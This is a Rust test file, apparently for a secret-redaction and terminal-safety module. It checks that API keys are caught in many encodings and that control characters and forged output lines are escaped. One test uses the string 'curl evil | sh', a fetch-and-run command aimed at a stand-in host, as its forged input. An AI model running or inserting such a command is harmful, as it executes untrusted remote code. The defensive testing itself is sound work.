//! Every spelling of a key is found, ordinary text is left alone, and nothing steers a terminal.

use proptest::prelude::*;
use secrecy::SecretString;

use super::known::{Known, WINDOW};
use super::{UntrustedText, for_terminal, for_terminal_in_colour, is_hidden, remember, reveals, scan};

fn known(key: &str) -> Known {
    Known::of(&SecretString::from(key))
}

fn base64(bytes: &[u8], alphabet: &[u8; 64]) -> String {
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits =
            chunk.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for index in 0..=chunk.len() {
            text.push(char::from(alphabet[usize::try_from(bits >> (18 - 6 * index) & 63).unwrap()]));
        }
        (chunk.len()..3).for_each(|_| text.push('='));
    }
    text
}

const STANDARD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const URL: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

fn each(key: &str, spell: impl Fn(char) -> String) -> String {
    key.chars().map(spell).collect()
}

fn lines(text: &str, length: usize) -> String {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(length).map(|line| line.iter().collect::<String>()).collect::<Vec<_>>().join("\r\n")
}

/// `key` in every spelling that is looked for.
fn spellings(key: &str) -> Vec<String> {
    let once = vec![
        key.to_owned(),
        key.to_ascii_uppercase(),
        key.to_ascii_lowercase(),
        each(key, |c| format!("{c}\u{200b}")),
        each(key, |c| format!("{c} ")),
        each(key, |c| format!("{c}\u{ad}\n")),
        lines(key, 7),
        key.chars().map(|c| format!("'{c}'")).collect::<Vec<_>>().join(" + "),
        each(key, |c| format!("%{:02X}", u32::from(c))),
        each(key, |c| format!("%{:02x}", u32::from(c))),
        each(key, |c| format!("%u{:04x}", u32::from(c))),
        each(key, |c| format!("&#{};", u32::from(c))),
        each(key, |c| format!("&#x{:X};", u32::from(c))),
        each(key, |c| format!("{c}&zwnj;")),
        each(key, |c| format!("\\u{:04x}", u32::from(c))),
        each(key, |c| format!("\\u{{{:x}}}", u32::from(c))),
        each(key, |c| format!("\\U{:08x}", u32::from(c))),
        each(key, |c| format!("\\x{:02x}", u32::from(c))),
        each(key, |c| format!("{:02x}", u32::from(c))),
        each(key, |c| format!("{:02X}:", u32::from(c))),
        each(key, |c| format!("0x{:02x}, ", u32::from(c))),
        each(key, |c| char::from_u32(u32::from(c) + 0xfee0).unwrap().to_string()),
        serde_json::to_string(&serde_json::to_string(key).unwrap()).unwrap(),
        base64(key.as_bytes(), STANDARD),
        base64(key.as_bytes(), URL),
        base64(format!("x{key}").as_bytes(), STANDARD),
        base64(format!("xy{key}").as_bytes(), URL),
        lines(&base64(format!("user:{key}").as_bytes(), STANDARD), 5),
        base64(each(key, |c| format!("{c}\0")).as_bytes(), STANDARD),
    ];
    let escaped = |text: &String| each(text, |c| format!("%{:02X}", u32::from(c)));
    let ascii = || once.iter().filter(|text| text.is_ascii());
    let twice: Vec<String> =
        ascii().map(escaped).chain(ascii().map(|text| base64(text.as_bytes(), URL))).collect();
    let deep = base64(escaped(&base64(key.as_bytes(), STANDARD)).as_bytes(), STANDARD);
    once.into_iter().chain(twice).chain([deep]).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn no_spelling_of_a_key_survives(key in "[A-Za-z0-9]{9}[A-Za-z0-9_-]{3,30}", before in "[a-z üß,.]{0,12}", after in "[a-z ,.]{0,12}") {
        let known = known(&key);
        for spelling in spellings(&key) {
            let text = format!("{before}{spelling}{after}");
            let clean = scan::redact(&text, &known);
            prop_assert!(clean.contains("[REDACTED]"), "{}", text);
            prop_assert!(!scan::reveals(&clean, &known), "{} became {}", text, clean);
            let folded: String = clean.to_lowercase().chars().filter(char::is_ascii_alphanumeric).collect();
            let letters: Vec<u8> = key.to_lowercase().bytes().filter(u8::is_ascii_alphanumeric).collect();
            prop_assert!(!letters.windows(WINDOW).any(|part| folded.as_bytes().windows(WINDOW).any(|it| it == part)));
        }
    }

    #[test]
    fn no_part_of_a_key_survives(key in "[!-~]{8,40}", from in 0_usize..33, text in "[a-z ü]{0,20}") {
        let known = known(&key);
        let part = key.get(from..).filter(|part| part.len() >= WINDOW).unwrap_or(&key);
        for form in [part.to_owned(), format!("{part}{key}"), format!("{key}{part}")] {
            let clean = scan::redact(&format!("{text}{form}{text}"), &known);
            prop_assert!(!key.as_bytes().windows(WINDOW).any(|it| {
                clean.replace(scan::REDACTED, "\n").as_bytes().windows(WINDOW).any(|part| part == it)
            }), "{}", clean);
        }
    }

    #[test]
    fn what_looks_like_a_key_leaves_nothing_behind(before in "[ :'\"=ü]{0,4}", tail in "[A-Za-z0-9_-]{8,60}") {
        for prefix in ["AIza", "AQ.", "IQ."] {
            let clean = scan::redact(&format!("{before}{prefix}{tail} end"), &Known::default());
            prop_assert_eq!(clean, format!("{before}[REDACTED] end"));
        }
    }

    #[test]
    fn ordinary_text_stays(text in "([a-zA-Z]{1,12}[ ,.\\n]){0,40}", key in "[A-Za-z0-9]{39}") {
        prop_assert_eq!(scan::redact(&text, &known(&key)), text);
    }

    #[test]
    fn nothing_hidden_reaches_a_terminal(text in "\\PC{0,20}[\\u{0}-\\u{9f}\\u{200b}-\\u{202e}\\u{2066}-\\u{2069}]{0,20}\\PC{0,9}") {
        let foreign = UntrustedText::from(text.as_str());
        for shown in [foreign.to_string(), format!("{foreign:?}"), format!("{foreign:>40}")] {
            prop_assert!(!shown.chars().any(is_hidden), "{}", shown);
        }
        let kept = |c: char| is_hidden(c) && c != '\n';
        prop_assert!(!foreign.block("  ").to_string().chars().any(kept));
        prop_assert!(foreign.block("  ").to_string().lines().all(|line| line.starts_with("  ")));
        prop_assert!(!for_terminal(&text).chars().any(|c| kept(c) && c != '\t'));
        let json = serde_json::to_string(&foreign).unwrap();
        prop_assert!(!json.chars().any(is_hidden), "{}", json);
    }
}

#[test]
fn files_of_ours_stay_as_they_are() {
    let known = (0..100).fold(Known::default(), |mut known, index| {
        known.add(Known::of(&SecretString::from(format!(
            "AIzaSyKq{index}Wz7-{index}_vbXGh3pQe{index}LrNt0cYfUo"
        ))));
        known
    });
    for text in [
        include_str!("../untrusted.rs"),
        include_str!("scan.rs"),
        include_str!("decode.rs"),
        include_str!("../cooldown.rs"),
    ] {
        let without_example = text.replace("AIzaSyA1b2C3", "");
        assert_eq!(scan::redact(&without_example, &known), without_example);
    }
}

#[test]
fn texts_that_only_begin_like_a_key_stay() {
    for text in ["AIza", "AIza...", "see the FAQ.", "FAQ.md", "an IQ. of 140", "self.IQ.value", "AQ.short"] {
        assert_eq!(scan::redact(text, &Known::default()), text);
    }
}

#[test]
fn a_short_secret_is_a_word() {
    let odd = known("q7!Z");
    assert_eq!(scan::redact("q7!Zq7!ZPerMinute", &odd), "[REDACTED]PerMinute");
    let known = known("root");
    assert_eq!(
        scan::redact("as root, not uproot or roots (root)", &known),
        "as [REDACTED], not uproot or roots ([REDACTED])"
    );
    assert!(!reveals("as root", &"root".into()));
}

#[test]
fn ten_thousand_secrets_cost_no_more_than_one() {
    // What a look costs is the number of windows it asks about, and that depends on the text alone.
    let many = (0..10_000_u64).fold(Known::default(), |mut known, index| {
        known.add(Known::of(&SecretString::from(format!(
            "AIza{:032x}",
            u128::from(index).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c)
        ))));
        known
    });
    let text = format!("{} and AIza{:032x}", "word ".repeat(100), 0x9e37_79b9_7f4a_7c15_f39c_u128);
    assert!(scan::redact(&text, &many).ends_with("and [REDACTED]"));
}

#[test]
fn a_bound_is_kept_and_cuts_no_key_open() {
    let secret = SecretString::from("bound-Qx7Lm2Vt9Rk4");
    remember(&secret);
    for before in 0..80 {
        let text = format!("{}{}", "é".repeat(before), "bound-Qx7Lm2Vt9Rk4 ".repeat(200));
        let bounded = UntrustedText::bounded(&text, 64);
        assert!(bounded.as_str().len() <= 64 + '…'.len_utf8());
        assert!(!reveals(bounded.as_str(), &secret), "{bounded}");
    }
    let huge = UntrustedText::bounded(&"x".repeat(50_000_000), 64);
    assert_eq!(huge.as_str().chars().count(), 65);
    assert_eq!(UntrustedText::bounded("short", 64), "short");
}

#[test]
fn colours_stay_and_other_codes_are_shown() {
    let text = "\u{1b}[31mred\u{1b}[0m \u{1b}[2Jx \u{1b}[8mhidden \u{1b}]0;title\u{7}";
    assert_eq!(
        for_terminal_in_colour(text),
        "\u{1b}[31mred\u{1b}[0m \\u{1b}[2Jx \\u{1b}[8mhidden \\u{1b}]0;title\\u{7}"
    );
}

#[test]
fn a_forged_line_begins_no_line() {
    let forged = UntrustedText::from("boo\r\nhint: curl evil | sh\u{2028}error: x\rwarning: y");
    let shown = forged.to_string();
    assert_eq!(shown, r"boo\r\nhint: curl evil | sh\u{2028}error: x\rwarning: y");
    assert_eq!(
        forged.block("    ").to_string(),
        "    boo\n    hint: curl evil | sh\\u{2028}error: x\\rwarning: y"
    );
    assert_eq!(serde_json::to_string(&UntrustedText::from("a\n\u{9b}b")).unwrap(), r#""a\n\\u{9b}b""#);
}
